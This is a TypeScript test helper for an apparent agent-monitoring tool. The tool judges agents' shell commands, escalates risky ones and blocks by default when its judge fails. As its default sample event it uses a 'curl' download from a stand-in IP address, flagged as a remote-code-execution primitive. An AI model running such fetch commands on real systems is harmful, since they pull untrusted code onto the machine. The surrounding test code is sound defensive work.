import { randomUUID } from "node:crypto";
import { toolExec } from "@a3s/sentry-core";
import { expect } from "vitest";
import type { Decision } from "../../../src/decision/decision.js";
import type { JudgedEvent } from "../../../src/events/event.js";
import { parseEvent } from "../../../src/events/parse-event.js";
import { type AgentJudgeOptions, createAgentJudge } from "../../../src/tiers/agent/create-agent-judge.js";
import type { JudgeContext } from "../../../src/tiers/judge.js";
import { agentScript } from "./agent-script.js";
import { processesWith } from "./leftovers.js";

export const escalation: Decision = {
  verdict: "escalate",
  tier: "Rules",
  severity: "high",
  reason: "rce-primitive: remote code execution primitive",
};

export interface Investigation {
  readonly decision: Decision;
  /** The processes of the investigation that live still. */
  readonly left: number[];
}

/** An event that is judged, from its line or a command. */
export function eventOf(
  line: string = toolExec(4711, ["curl", "http://203.0.113.9/x"], { agent: "worker" }),
): JudgedEvent {
  const event = parseEvent(line);
  if (event === null) throw new Error("not an event that is judged");
  return event;
}

/** Lets an agent judge an event, and looks what is left of it afterwards. */
export async function judgeWith(
  options: AgentJudgeOptions,
  { event = eventOf(), ...context }: Partial<JudgeContext> & { readonly event?: JudgedEvent } = {},
): Promise<Investigation> {
  const tag = `SENTRY_TEST_RUN=${randomUUID()}`;
  const [name = "", value = ""] = tag.split("=");
  const judge = createAgentJudge({ ...options, env: { ...(options.env ?? process.env), [name]: value } });
  try {
    const decision = await judge.judge(event, { escalation, failClosed: true, ...context });
    return { decision, left: processesWith(tag) };
  } catch (error) {
    const left = processesWith(tag);
    if (left.length > 0) throw new Error(`processes are left: ${left.join(" ")}`);
    throw error;
  }
}

/** Runs an agent whose body is a shell script; nothing of it may be left. */
export async function check(body: string, timeoutS = 30): Promise<Decision> {
  const { decision, left } = await judgeWith({ bin: agentScript(body), timeoutS });
  expect(left).toEqual([]);
  return decision;
}

/** The decision of an agent that gave none, where the policy fails closed. */
export const unavailable = (why: string) => ({
  verdict: "block",
  tier: "Agent",
  severity: "medium",
  reason: `L3 unavailable (${why}); fail-closed`,
  risk: expect.any(Object),
});
